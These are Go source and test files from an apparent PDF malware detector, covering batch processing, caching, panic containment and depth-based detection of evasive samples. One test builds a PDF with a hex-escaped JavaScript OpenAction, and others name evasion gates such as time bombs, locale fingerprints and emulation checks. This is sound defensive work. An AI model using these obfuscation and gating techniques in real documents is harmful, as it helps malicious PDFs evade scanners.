				t.Logf("seed %d: object %d mismatch:\nwant %s\ngot  %s",
					seed, i+1, FormatObject(want), FormatObject(got.Object))
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 120}); err != nil {
		t.Error(err)
	}
}

func TestWriterStreamWithTrickyBytes(t *testing.T) {
	// Stream bodies containing "endstream" and "endobj" markers must
	// survive (the declared /Length guides the parser).
	body := []byte("xx endstream yy endobj zz stream ww")
	d := NewDocument()
	d.Add(&Stream{Dict: Dict{}, Raw: body})
	d.Trailer["Root"] = d.Add(Dict{"Type": Name("Catalog")})
	data, err := Write(d, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	parsed, err := Parse(data, ParseOptions{Strict: true})
	if err != nil {
		t.Fatal(err)
	}
	obj, _ := parsed.Get(1)
	s, ok := obj.Object.(*Stream)
	if !ok || !bytes.Equal(s.Raw, body) {
		t.Errorf("stream body corrupted: %q", s.Raw)
	}
}

func TestObfuscatedNameWriteParses(t *testing.T) {
	d := NewDocument()
	action := d.Add(ObfuscatedDict{Entries: []ObfuscatedDictEntry{
		{Key: "S", Value: Name("JavaScript")},
		{Key: "JS", EscapeOffsets: []int{1}, ExtraHashes: 1, Value: String{Value: []byte("x();")}},
	}})
	d.Trailer["Root"] = d.Add(Dict{"Type": Name("Catalog"), "OpenAction": action})
	data, err := Write(d, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(data, []byte("#")) {
		t.Fatalf("no hex escape emitted: %s", data)
	}
	parsed, err := Parse(data, ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if parsed.HexNameCount == 0 {
		t.Error("hex-escaped key not counted")
	}
	chains, err := ReconstructChains(parsed)
	if err != nil {
		t.Fatal(err)
	}
	if len(chains.Chains) != 1 || chains.Chains[0].Source != "x();" {
		t.Errorf("chains = %+v", chains.Chains)
	}
}
