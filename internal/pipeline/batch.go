package pipeline

import (
	"errors"
	"fmt"
	"runtime"
	"sync"

	"pdfshield/internal/cache"
	"pdfshield/internal/instrument"
)

// BatchDoc is one input document for ProcessBatch.
type BatchDoc struct {
	// ID is the caller-chosen document identity (path or corpus id).
	ID string
	// Raw holds the original document bytes.
	Raw []byte
}

// BatchOptions tunes a ProcessBatch run.
type BatchOptions struct {
	// Workers is the number of concurrent reader sessions. Each worker
	// owns one long-lived session (reader process + hook connection) that
	// is recycled between documents instead of redialled. Zero or negative
	// means runtime.NumCPU().
	Workers int
}

// BatchResult collects the outcome of a ProcessBatch run. Both slices are
// indexed like the input: Verdicts[i] and Errors[i] describe docs[i], and
// exactly one of them is non-nil per document.
type BatchResult struct {
	Verdicts []*Verdict
	Errors   []error
	// CacheStats snapshots the front-end cache after the batch (nil when
	// the system runs without a cache).
	CacheStats *cache.Stats
}

// Failed counts documents that ended in an error.
func (r *BatchResult) Failed() int {
	n := 0
	for _, err := range r.Errors {
		if err != nil {
			n++
		}
	}
	return n
}

// ProcessBatch runs the complete workflow over many documents using a
// worker pool. Per-document failures are recorded in BatchResult.Errors
// rather than aborting the batch, and results come back in input order.
//
// Every shared component (instrumenter, registry, detector, fake OS) is
// safe for concurrent use; the detector attributes events per reader PID,
// so concurrent documents cannot cross-contaminate feature vectors. Each
// document still runs in a logically fresh reader process (Session.Recycle
// restarts the process between documents), so per-document verdicts match
// serial ProcessDocument runs.
func (s *System) ProcessBatch(docs []BatchDoc, opts BatchOptions) *BatchResult {
	out := &BatchResult{
		Verdicts: make([]*Verdict, len(docs)),
		Errors:   make([]error, len(docs)),
	}
	defer func() {
		if stats, ok := s.CacheStats(); ok {
			out.CacheStats = &stats
		}
	}()
	if len(docs) == 0 {
		return out
	}
	workers := opts.Workers
	if workers <= 0 {
		workers = runtime.NumCPU()
	}
	if workers > len(docs) {
		workers = len(docs)
	}

	if workers == 1 {
		// Serial batches skip the worker pool: a channel round-trip per
		// document costs more than the whole front-end cache hit path, so
		// the single-worker case (the paper's configuration, and any
		// single-CPU host) runs the same per-document code inline.
		var sess *Session
		defer func() {
			if sess != nil {
				sess.Close()
			}
		}()
		for i := range docs {
			out.Verdicts[i], out.Errors[i] = s.processWithSession(&sess, docs[i])
		}
		return out
	}

	jobs := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var sess *Session
			defer func() {
				if sess != nil {
					sess.Close()
				}
			}()
			for i := range jobs {
				// Workers write disjoint slots, so no result locking is
				// needed and input order is preserved for free.
				out.Verdicts[i], out.Errors[i] = s.processWithSession(&sess, docs[i])
			}
		}()
	}
	for i := range docs {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
	return out
}

// processWithSession runs one document through a worker's reusable session,
// lazily creating it on first need and recycling it between documents.
//
// A panic while analyzing one document is contained to that document's slot:
// the worker records a fail-closed error, throws away its session (the reader
// process may be mid-open with arbitrary state), and keeps draining the
// batch. The other documents' verdicts are unaffected.
func (s *System) processWithSession(sess **Session, doc BatchDoc) (v *Verdict, err error) {
	defer func() {
		if r := recover(); r != nil {
			discardSession(sess)
			v, err = nil, fmt.Errorf("analysis panic: %v", r)
		}
	}()
	if analysisHook != nil {
		analysisHook(doc.ID)
	}
	res, err := s.frontEnd(doc.ID, doc.Raw)
	if err != nil {
		if errors.Is(err, instrument.ErrNoJavaScript) {
			return &Verdict{DocID: doc.ID, NoJavaScript: true, Instrument: res}, nil
		}
		return nil, err
	}
	if *sess == nil {
		ns, err := s.NewSession()
		if err != nil {
			return nil, err
		}
		*sess = ns
	} else {
		(*sess).Recycle()
	}
	v, err = s.openAndJudge(*sess, res)
	claimVerdict(v, doc.ID)
	return v, err
}
