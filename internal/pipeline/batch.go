package pipeline

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync"
	"time"

	"pdfshield/internal/cache"
	"pdfshield/internal/instrument"
	"pdfshield/internal/obs"
	"pdfshield/internal/triage"
)

// BatchDoc is one input document for ProcessBatch.
type BatchDoc struct {
	// ID is the caller-chosen document identity (path or corpus id).
	ID string
	// Raw holds the original document bytes.
	Raw []byte
}

// BatchOptions tunes a ProcessBatch run.
type BatchOptions struct {
	// Workers is the number of concurrent reader sessions. Each worker
	// owns one long-lived session (reader process + hook connection) that
	// is recycled between documents instead of redialled. Zero or negative
	// means runtime.NumCPU().
	Workers int
	// Depth overrides the system-wide scan depth for this batch (empty =
	// inherit Options.Depth / the legacy resolution). An unknown value
	// fails the whole batch: every slot carries the parse error.
	Depth Depth
}

// BatchResult collects the outcome of a ProcessBatch run. Both slices are
// indexed like the input: Verdicts[i] and Errors[i] describe docs[i], and
// exactly one of them is non-nil per document. When the batch's context
// is cancelled mid-run, documents processed before the cancellation keep
// their verdicts and every remaining slot carries ctx.Err().
type BatchResult struct {
	Verdicts []*Verdict
	Errors   []error
	// CacheStats snapshots the front-end cache after the batch (nil when
	// the system runs without a cache).
	CacheStats *cache.Stats
}

// Failed counts documents that ended in an error.
func (r *BatchResult) Failed() int {
	n := 0
	for _, err := range r.Errors {
		if err != nil {
			n++
		}
	}
	return n
}

// Cancelled counts documents whose slot carries a context error (never
// dispatched, or skipped by a worker after cancellation).
func (r *BatchResult) Cancelled() int {
	n := 0
	for _, err := range r.Errors {
		if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
			n++
		}
	}
	return n
}

// ProcessBatch runs the complete workflow over many documents with no
// cancellation point; it is a thin wrapper over ProcessBatchContext.
//
// Deprecated: use ProcessBatchContext, which stops dispatching documents
// once the context is cancelled.
func (s *System) ProcessBatch(docs []BatchDoc, opts BatchOptions) *BatchResult {
	return s.ProcessBatchContext(context.Background(), docs, opts)
}

// ProcessBatchContext runs the complete workflow over many documents
// using a worker pool. Per-document failures are recorded in
// BatchResult.Errors rather than aborting the batch, and results come
// back in input order.
//
// Every shared component (instrumenter, registry, detector, fake OS) is
// safe for concurrent use; the detector attributes events per reader PID,
// so concurrent documents cannot cross-contaminate feature vectors. Each
// document still runs in a logically fresh reader process (Session.Recycle
// restarts the process between documents), so per-document verdicts match
// serial ProcessDocumentContext runs.
//
// Cancellation: once ctx ends, no further document is dispatched and
// workers skip any job already queued to them; documents completed before
// the cancellation keep their verdicts, and every unprocessed slot gets
// ctx.Err(). In-flight documents finish their current phase boundary
// check and stop there (see ProcessDocumentContext).
func (s *System) ProcessBatchContext(ctx context.Context, docs []BatchDoc, opts BatchOptions) *BatchResult {
	if ctx == nil {
		ctx = context.Background()
	}
	out := &BatchResult{
		Verdicts: make([]*Verdict, len(docs)),
		Errors:   make([]error, len(docs)),
	}
	defer func() {
		if stats, ok := s.CacheStats(); ok {
			out.CacheStats = &stats
		}
	}()
	if len(docs) == 0 {
		return out
	}
	if _, err := ParseDepth(string(opts.Depth)); err != nil {
		for i := range out.Errors {
			out.Errors[i] = err
		}
		return out
	}
	workers := opts.Workers
	if workers <= 0 {
		workers = runtime.NumCPU()
	}
	if workers > len(docs) {
		workers = len(docs)
	}

	// The queue-depth gauge tracks documents accepted but not yet handed
	// to a worker; with concurrent batches the gauge is additive across
	// them. The workers gauge counts pool width the same way.
	queue := s.Obs.Gauge(obs.MetricBatchQueueDepth)
	queue.Add(int64(len(docs)))
	s.Obs.GaugeAdd(obs.MetricBatchWorkers, int64(workers))
	defer s.Obs.GaugeAdd(obs.MetricBatchWorkers, -int64(workers))

	if workers == 1 {
		// Serial batches skip the worker pool: a channel round-trip per
		// document costs more than the whole front-end cache hit path, so
		// the single-worker case (the paper's configuration, and any
		// single-CPU host) runs the same per-document code inline.
		var sess *Session
		defer func() {
			if sess != nil {
				sess.Close()
			}
		}()
		for i := range docs {
			queue.Add(-1)
			if err := ctx.Err(); err != nil {
				out.Errors[i] = err
				continue
			}
			out.Verdicts[i], out.Errors[i] = s.processWithSession(ctx, &sess, docs[i], opts.Depth)
		}
		return out
	}

	jobs := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var sess *Session
			defer func() {
				if sess != nil {
					sess.Close()
				}
			}()
			for i := range jobs {
				// Workers write disjoint slots, so no result locking is
				// needed and input order is preserved for free.
				if err := ctx.Err(); err != nil {
					out.Errors[i] = err
					continue
				}
				out.Verdicts[i], out.Errors[i] = s.processWithSession(ctx, &sess, docs[i], opts.Depth)
			}
		}()
	}
	dispatched := 0
dispatch:
	for i := range docs {
		select {
		case jobs <- i:
			dispatched++
			queue.Add(-1)
		case <-ctx.Done():
			break dispatch
		}
	}
	close(jobs)
	wg.Wait()
	// Slots never dispatched fail with the cancellation error; the gauge
	// gives their queue residency back.
	if dispatched < len(docs) {
		queue.Add(-int64(len(docs) - dispatched))
		for i := dispatched; i < len(docs); i++ {
			out.Errors[i] = ctx.Err()
		}
	}
	return out
}

// processWithSession runs one document through a worker's reusable session,
// lazily creating it on first need and recycling it between documents.
//
// A panic while analyzing one document is contained to that document's slot:
// the worker records a fail-closed error, throws away its session (the reader
// process may be mid-open with arbitrary state), and keeps draining the
// batch. The other documents' verdicts are unaffected.
func (s *System) processWithSession(ctx context.Context, sess **Session, doc BatchDoc, depth Depth) (v *Verdict, err error) {
	start := time.Now()
	tr := obs.StartTrace(doc.ID)
	wd := s.watchdog().Begin(doc.ID)
	tr.Watch(wd)
	defer wd.Done()
	s.journalDocOpen(doc.ID, len(doc.Raw))
	defer func() { s.finishDoc(tr, v, err, time.Since(start)) }()
	defer func() {
		if r := recover(); r != nil {
			s.Obs.Inc(obs.MetricPanics)
			discardSession(sess)
			v, err = nil, fmt.Errorf("analysis panic: %v", r)
		}
	}()
	if analysisHook != nil {
		analysisHook(doc.ID)
	}
	res, err := s.frontEndBatch(ctx, doc, tr)
	if err != nil {
		if errors.Is(err, instrument.ErrNoJavaScript) {
			return &Verdict{DocID: doc.ID, NoJavaScript: true, Instrument: res, Depth: string(s.depthProfile(depth).depth)}, nil
		}
		return nil, err
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	prof := s.depthProfile(depth)
	td := s.runTriage(doc.ID, doc.Raw, res, tr, prof.triage)
	if td != nil && (prof.staticOnly || td.Route != triage.RouteUncertain) {
		return s.verdictFromTriage(doc.ID, res, td, prof), nil
	}
	if *sess == nil {
		ns, err := s.NewSession()
		if err != nil {
			return nil, err
		}
		*sess = ns
	} else {
		(*sess).Recycle()
	}
	v, err = s.openAndJudge(ctx, *sess, res, tr, prof)
	claimVerdict(v, doc.ID)
	annotateTriage(v, td)
	return v, err
}

// frontEndBatch is frontEndTraced for the batch path (kept tiny so the
// panic-containment defer above stays readable).
func (s *System) frontEndBatch(ctx context.Context, doc BatchDoc, tr *obs.Trace) (*instrument.Result, error) {
	res, err, _ := s.frontEndTraced(ctx, doc.ID, doc.Raw, tr)
	return res, err
}
