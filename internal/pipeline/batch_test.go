package pipeline

import (
	"fmt"
	"testing"

	"pdfshield/internal/corpus"
	"pdfshield/internal/reader"
)

// mixedCorpus builds a deterministic 50-document mix of benign (with and
// without Javascript) and malicious samples.
func mixedCorpus(t *testing.T, n int) []BatchDoc {
	t.Helper()
	g := corpus.NewGenerator(4242)
	docs := make([]BatchDoc, 0, n)
	for len(docs) < n {
		var s corpus.Sample
		switch len(docs) % 3 {
		case 0:
			s = g.Malicious()
		case 1:
			s = g.BenignWithJS(1)[0]
		default:
			s = g.BenignText(20 << 10)
		}
		docs = append(docs, BatchDoc{ID: fmt.Sprintf("doc-%03d-%s", len(docs), s.ID), Raw: s.Raw})
	}
	return docs
}

// TestProcessBatchMatchesSerial runs 50 mixed documents across 8 workers
// and asserts every verdict matches the serial baseline for the same seed.
// Under -race this also exercises the shared detector, registry, fake OS
// and hook/SOAP servers concurrently.
func TestProcessBatchMatchesSerial(t *testing.T) {
	docs := mixedCorpus(t, 50)

	serial := newSystem(t, 8.0)
	want := make([]*Verdict, len(docs))
	for i, d := range docs {
		v, err := serial.ProcessDocument(d.ID, d.Raw)
		if err != nil {
			t.Fatalf("serial %s: %v", d.ID, err)
		}
		want[i] = v
	}

	parallel := newSystem(t, 8.0)
	res := parallel.ProcessBatch(docs, BatchOptions{Workers: 8})
	if len(res.Verdicts) != len(docs) || len(res.Errors) != len(docs) {
		t.Fatalf("result length %d/%d, want %d", len(res.Verdicts), len(res.Errors), len(docs))
	}
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d documents failed: first errors %v", n, res.Errors)
	}

	for i, got := range res.Verdicts {
		w := want[i]
		if got == nil {
			t.Fatalf("verdict %d (%s) missing", i, docs[i].ID)
		}
		if got.DocID != docs[i].ID {
			t.Errorf("verdict %d out of order: got %s want %s", i, got.DocID, docs[i].ID)
		}
		if got.Malicious != w.Malicious || got.NoJavaScript != w.NoJavaScript || got.Crashed != w.Crashed {
			t.Errorf("%s: batch verdict (mal=%v nojs=%v crash=%v) != serial (mal=%v nojs=%v crash=%v)",
				docs[i].ID, got.Malicious, got.NoJavaScript, got.Crashed, w.Malicious, w.NoJavaScript, w.Crashed)
		}
		if (got.Alert == nil) != (w.Alert == nil) {
			t.Errorf("%s: alert presence differs: batch=%v serial=%v", docs[i].ID, got.Alert != nil, w.Alert != nil)
		} else if got.Alert != nil && got.Alert.Reason != w.Alert.Reason {
			t.Errorf("%s: alert reason %q != serial %q", docs[i].ID, got.Alert.Reason, w.Alert.Reason)
		}
	}
}

// TestProcessBatchSingleWorkerIsSerial checks the degenerate pool.
func TestProcessBatchSingleWorkerIsSerial(t *testing.T) {
	docs := mixedCorpus(t, 9)
	sys := newSystem(t, 8.0)
	res := sys.ProcessBatch(docs, BatchOptions{Workers: 1})
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d failures", n)
	}
	for i, v := range res.Verdicts {
		if v == nil || v.DocID != docs[i].ID {
			t.Fatalf("slot %d: %+v", i, v)
		}
	}
}

// TestProcessBatchEmpty covers the zero-document edge.
func TestProcessBatchEmpty(t *testing.T) {
	sys := newSystem(t, 8.0)
	res := sys.ProcessBatch(nil, BatchOptions{Workers: 4})
	if len(res.Verdicts) != 0 || len(res.Errors) != 0 || res.Failed() != 0 {
		t.Fatalf("unexpected result for empty batch: %+v", res)
	}
}

// TestProcessBatchCollectsPerDocumentErrors feeds one unparseable document
// in the middle of a batch and expects the rest to succeed.
func TestProcessBatchCollectsPerDocumentErrors(t *testing.T) {
	docs := mixedCorpus(t, 6)
	docs[3] = BatchDoc{ID: "broken", Raw: []byte("not a pdf at all")}
	sys := newSystem(t, 8.0)
	res := sys.ProcessBatch(docs, BatchOptions{Workers: 3})
	if res.Failed() != 1 {
		t.Fatalf("failed = %d, want 1 (errors: %v)", res.Failed(), res.Errors)
	}
	if res.Errors[3] == nil || res.Verdicts[3] != nil {
		t.Fatalf("slot 3: err=%v verdict=%v", res.Errors[3], res.Verdicts[3])
	}
	for i, v := range res.Verdicts {
		if i == 3 {
			continue
		}
		if v == nil || res.Errors[i] != nil {
			t.Fatalf("slot %d should have succeeded: err=%v", i, res.Errors[i])
		}
	}
}

// TestSessionRecycleFreshState verifies a recycled session behaves like a
// fresh reader process: crash state and document memory are gone, the PID
// changes, and the hook connection keeps working.
func TestSessionRecycleFreshState(t *testing.T) {
	sys := newSystem(t, 8.0)
	g := corpus.NewGenerator(777)
	crasher, ok := g.MaliciousFamily("mal-crasher")
	if !ok {
		t.Skip("crasher family missing")
	}
	sess, err := sys.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()

	if _, err := sess.OpenRaw("crash-1", crasher.Raw, reader.OpenOptions{}); err != nil {
		// Opening may fail on parse; the crash path is what matters below.
		t.Logf("open: %v", err)
	}
	oldPID := sess.Proc.PID
	sess.Recycle()
	if sess.Proc.PID == oldPID {
		t.Errorf("PID unchanged after recycle: %d", oldPID)
	}
	if sess.Proc.Crashed() {
		t.Error("crash flag survived recycle")
	}
	benign := g.BenignWithJS(1)[0]
	res, err := sys.Instrumenter.InstrumentBytes("post-recycle", benign.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sess.Open(res, reader.OpenOptions{}); err != nil {
		t.Fatalf("open after recycle: %v", err)
	}
}
