package pipeline

import (
	"fmt"
	"testing"

	"pdfshield/internal/cache"
	"pdfshield/internal/corpus"
)

// duplicateCorpus builds the duplicate-heavy population the front-end
// cache targets: `unique` distinct documents (scriptless, benign-with-JS,
// and malicious) resubmitted over `rounds` rounds under fresh IDs.
func duplicateCorpus(t *testing.T, unique, rounds int) ([][]BatchDoc, []BatchDoc) {
	t.Helper()
	g := corpus.NewGenerator(31337)
	samples := make([]corpus.Sample, 0, unique)
	for i := 0; len(samples) < unique; i++ {
		switch i % 5 {
		case 0:
			samples = append(samples, g.Malicious())
		case 1:
			samples = append(samples, g.BenignWithJS(1)[0])
		case 2:
			samples = append(samples, g.BenignAttachments(2, true))
		default:
			samples = append(samples, g.BenignText(16<<10))
		}
	}
	byRound := make([][]BatchDoc, rounds)
	var flat []BatchDoc
	for r := 0; r < rounds; r++ {
		docs := make([]BatchDoc, len(samples))
		for i, s := range samples {
			docs[i] = BatchDoc{ID: fmt.Sprintf("dup-r%02d-%s", r, s.ID), Raw: s.Raw}
		}
		byRound[r] = docs
		flat = append(flat, docs...)
	}
	return byRound, flat
}

// TestBatchWithCacheMatchesSerialUncached is the acceptance property for
// the front-end cache: a duplicate-heavy batch (50 documents, 10 unique)
// processed through one cached system produces the same verdict for every
// document as serial uncached processing (fresh system per round, since
// the registry refuses to re-instrument bytes it has already seen). Under
// -race this also exercises hit replay, the per-key open serialization,
// and the shared detector concurrently.
func TestBatchWithCacheMatchesSerialUncached(t *testing.T) {
	const unique, rounds = 10, 5
	byRound, flat := duplicateCorpus(t, unique, rounds)

	type outcome struct {
		malicious, noJS, crashed bool
		alertReason              string
	}
	want := make(map[string]outcome, len(flat))
	for _, docs := range byRound {
		sys := newSystem(t, 8.0)
		for _, d := range docs {
			v, err := sys.ProcessDocument(d.ID, d.Raw)
			if err != nil {
				t.Fatalf("serial %s: %v", d.ID, err)
			}
			o := outcome{malicious: v.Malicious, noJS: v.NoJavaScript, crashed: v.Crashed}
			if v.Alert != nil {
				o.alertReason = v.Alert.Reason
			}
			want[d.ID] = o
		}
	}

	cached, err := NewSystem(Options{ViewerVersion: 8.0, Seed: 99, Cache: &cache.Config{}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cached.Close() })
	res := cached.ProcessBatch(flat, BatchOptions{Workers: 4})
	if n := res.Failed(); n != 0 {
		t.Fatalf("%d documents failed in the cached batch: %v", n, res.Errors)
	}

	for i, v := range res.Verdicts {
		d := flat[i]
		if v == nil {
			t.Fatalf("verdict %d (%s) missing", i, d.ID)
		}
		if v.DocID != d.ID {
			t.Errorf("slot %d: verdict DocID %q, want the submission's ID %q", i, v.DocID, d.ID)
		}
		w := want[d.ID]
		if v.Malicious != w.malicious || v.NoJavaScript != w.noJS || v.Crashed != w.crashed {
			t.Errorf("%s: cached (mal=%v nojs=%v crash=%v) != serial uncached (mal=%v nojs=%v crash=%v)",
				d.ID, v.Malicious, v.NoJavaScript, v.Crashed, w.malicious, w.noJS, w.crashed)
		}
		reason := ""
		if v.Alert != nil {
			reason = v.Alert.Reason
		}
		if reason != w.alertReason {
			t.Errorf("%s: alert reason %q != serial %q", d.ID, reason, w.alertReason)
		}
	}

	stats, ok := cached.CacheStats()
	if !ok {
		t.Fatal("cached system reports no cache stats")
	}
	if stats.Misses != unique {
		t.Errorf("misses = %d, want %d (one front-end pass per unique document)", stats.Misses, unique)
	}
	if got := stats.Hits + stats.Shared; got != uint64(len(flat)-unique) {
		t.Errorf("hits+shared = %d, want %d", got, len(flat)-unique)
	}
}

// TestCacheStatsSurfacedInBatchResult checks the Stats plumbing without
// the full corpus machinery.
func TestCacheStatsSurfacedInBatchResult(t *testing.T) {
	g := corpus.NewGenerator(7)
	s := g.BenignText(8 << 10)
	sys, err := NewSystem(Options{ViewerVersion: 8.0, Seed: 99, Cache: &cache.Config{}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })
	docs := []BatchDoc{
		{ID: "a", Raw: s.Raw},
		{ID: "b", Raw: s.Raw},
		{ID: "c", Raw: s.Raw},
	}
	res := sys.ProcessBatch(docs, BatchOptions{Workers: 1})
	if res.CacheStats == nil {
		t.Fatal("BatchResult.CacheStats is nil on a cached system")
	}
	if res.CacheStats.Misses != 1 || res.CacheStats.Hits+res.CacheStats.Shared != 2 {
		t.Fatalf("stats = %+v, want 1 miss / 2 avoided", *res.CacheStats)
	}

	plain := newSystem(t, 8.0)
	if pres := plain.ProcessBatch(docs[:1], BatchOptions{Workers: 1}); pres.CacheStats != nil {
		t.Fatal("uncached system must leave CacheStats nil")
	}
}
