package pipeline

import (
	"fmt"

	"pdfshield/internal/obs"
)

// analysisHook, when non-nil, runs at the start of every contained
// per-document analysis with the document's ID. It exists as a test seam:
// the fuzzing work fixes every panic we can find, but containment must hold
// for the ones we can't, so tests inject a panic here to prove the batch
// survives. Set it only from tests, and only while no batch is running.
var analysisHook func(docID string)

// openHook, when non-nil, runs just before every reader open with the
// document's ID. Test seam for the stall watchdog: a test blocks one
// document here to prove a wedged open is flagged with a goroutine dump
// while concurrent documents keep getting verdicts. Same contract as
// analysisHook: set only from tests, only while nothing is running.
var openHook func(docID string)

// containPanic converts an in-flight panic into a fail-closed per-document
// error and counts it in the obs registry. It must be called directly from
// a defer. A document that crashes the analyzer is never reported benign by
// omission: the caller gets a non-nil error in the same slot a verdict
// would have filled.
func containPanic(reg *obs.Registry, v **Verdict, err *error) {
	if r := recover(); r != nil {
		reg.Inc(obs.MetricPanics)
		*v = nil
		*err = fmt.Errorf("analysis panic: %v", r)
	}
}

// discardSession closes and clears a worker session whose document panicked.
// The reader process may be mid-open with arbitrary state, so the session is
// thrown away rather than recycled; Close errors (or panics) during teardown
// of an already-broken session are deliberately swallowed.
func discardSession(sess **Session) {
	s := *sess
	if s == nil {
		return
	}
	*sess = nil
	defer func() { _ = recover() }()
	s.Close()
}
