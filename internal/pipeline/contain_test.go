package pipeline

import (
	"strings"
	"testing"
)

// TestBatchContainsPanickingDocument injects a panic into one document of a
// 50-document batch and asserts (a) the batch completes, (b) the poisoned
// slot carries a fail-closed error, and (c) every other verdict matches the
// serial baseline — a crashing document must not take its neighbours' results
// down with it or skew them.
func TestBatchContainsPanickingDocument(t *testing.T) {
	docs := mixedCorpus(t, 50)
	const corrupt = 17 // arbitrary mid-batch slot

	serial := newSystem(t, 8.0)
	want := make([]*Verdict, len(docs))
	for i, d := range docs {
		v, err := serial.ProcessDocument(d.ID, d.Raw)
		if err != nil {
			t.Fatalf("serial %s: %v", d.ID, err)
		}
		want[i] = v
	}

	analysisHook = func(docID string) {
		if docID == docs[corrupt].ID {
			panic("injected analyzer crash")
		}
	}
	defer func() { analysisHook = nil }()

	parallel := newSystem(t, 8.0)
	res := parallel.ProcessBatch(docs, BatchOptions{Workers: 8})

	if n := res.Failed(); n != 1 {
		t.Fatalf("failed count = %d, want exactly 1 (the corrupt slot)", n)
	}
	if err := res.Errors[corrupt]; err == nil || !strings.Contains(err.Error(), "analysis panic") {
		t.Fatalf("corrupt slot error = %v, want analysis panic", err)
	}
	if res.Verdicts[corrupt] != nil {
		t.Fatalf("corrupt slot has a verdict %+v alongside its error", res.Verdicts[corrupt])
	}

	for i, got := range res.Verdicts {
		if i == corrupt {
			continue
		}
		w := want[i]
		if got == nil {
			t.Fatalf("verdict %d (%s) missing: %v", i, docs[i].ID, res.Errors[i])
		}
		if got.Malicious != w.Malicious || got.NoJavaScript != w.NoJavaScript || got.Crashed != w.Crashed {
			t.Errorf("%s: verdict (mal=%v nojs=%v crash=%v) != serial (mal=%v nojs=%v crash=%v)",
				docs[i].ID, got.Malicious, got.NoJavaScript, got.Crashed, w.Malicious, w.NoJavaScript, w.Crashed)
		}
	}
}

// TestSerialProcessContainsPanic proves the public serial path fails closed
// too: the injected panic surfaces as an error, and the system remains usable
// for the next document.
func TestSerialProcessContainsPanic(t *testing.T) {
	docs := mixedCorpus(t, 2)

	analysisHook = func(docID string) {
		if docID == docs[0].ID {
			panic("injected analyzer crash")
		}
	}
	defer func() { analysisHook = nil }()

	sys := newSystem(t, 8.0)
	v, err := sys.ProcessDocument(docs[0].ID, docs[0].Raw)
	if err == nil || !strings.Contains(err.Error(), "analysis panic") {
		t.Fatalf("err = %v, want analysis panic", err)
	}
	if v != nil {
		t.Fatalf("got verdict %+v alongside panic error", v)
	}

	// The same system must still process the next document normally.
	v, err = sys.ProcessDocument(docs[1].ID, docs[1].Raw)
	if err != nil {
		t.Fatalf("post-panic document: %v", err)
	}
	if v == nil {
		t.Fatal("post-panic document: nil verdict")
	}
}

// TestWorkerSessionDiscardedAfterPanic drives a single worker through a
// panicking document followed by good ones, proving the worker rebuilds its
// session instead of recycling a poisoned reader process.
func TestWorkerSessionDiscardedAfterPanic(t *testing.T) {
	docs := mixedCorpus(t, 6)
	const corrupt = 2

	analysisHook = func(docID string) {
		if docID == docs[corrupt].ID {
			panic("injected analyzer crash")
		}
	}
	defer func() { analysisHook = nil }()

	sys := newSystem(t, 8.0)
	res := sys.ProcessBatch(docs, BatchOptions{Workers: 1})
	if n := res.Failed(); n != 1 {
		t.Fatalf("failed count = %d, want 1; errors %v", n, res.Errors)
	}
	for i, v := range res.Verdicts {
		if i == corrupt {
			continue
		}
		if v == nil {
			t.Fatalf("doc %d (%s) after panic: %v", i, docs[i].ID, res.Errors[i])
		}
	}
}
