package pipeline

import (
	"bytes"
	"fmt"
	"testing"

	"pdfshield/internal/attack"
	"pdfshield/internal/corpus"
	"pdfshield/internal/detect"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/winos"
)

// depthSystem builds a system pinned to one scan depth on a private
// registry.
func depthSystem(t *testing.T, d Depth, j *journal.Writer) *System {
	t.Helper()
	sys, err := NewSystem(Options{
		ViewerVersion: 8.0,
		Seed:          1213,
		Obs:           obs.NewRegistry(),
		Journal:       j,
		Depth:         d,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })
	return sys
}

// TestEvasiveMissedStandardCaughtDeep pins the tentpole's reason to
// exist: every gated payload (time bomb, locale fingerprint, emulation
// check) does nothing observable on a natural open and is classified
// benign at DepthStandard, and the SAME bytes are convicted at
// DepthDeep, where forced execution explores the closed arm of the gate.
func TestEvasiveMissedStandardCaughtDeep(t *testing.T) {
	std := depthSystem(t, DepthStandard, nil)
	deep := depthSystem(t, DepthDeep, nil)
	for i, kind := range attack.EvasiveKinds() {
		s, ok := attack.EvasiveSample(kind, int64(100+i))
		if !ok {
			t.Fatalf("unknown evasive kind %s", kind)
		}
		vs, err := std.ProcessDocumentContext(t.Context(), s.ID+"-std", s.Raw)
		if err != nil {
			t.Fatalf("%s standard: %v", kind, err)
		}
		if vs.Malicious {
			t.Errorf("%s: detected at DepthStandard — the gate is not evasive, the regression test proves nothing", kind)
		}
		if vs.Depth != string(DepthStandard) {
			t.Errorf("%s: standard verdict depth = %q", kind, vs.Depth)
		}

		vd, err := deep.ProcessDocumentContext(t.Context(), s.ID+"-deep", s.Raw)
		if err != nil {
			t.Fatalf("%s deep: %v", kind, err)
		}
		if !vd.Malicious {
			t.Errorf("%s: MISSED at DepthDeep — forced execution failed to detonate the gate", kind)
		}
		if vd.Depth != string(DepthDeep) {
			t.Errorf("%s: deep verdict depth = %q", kind, vd.Depth)
		}
		if vd.Open == nil || vd.Open.DeepPaths < 2 {
			t.Errorf("%s: deep open explored %d paths, want >= 2", kind, openPaths(vd))
		}
	}
}

func openPaths(v *Verdict) int {
	if v == nil || v.Open == nil {
		return 0
	}
	return v.Open.DeepPaths
}

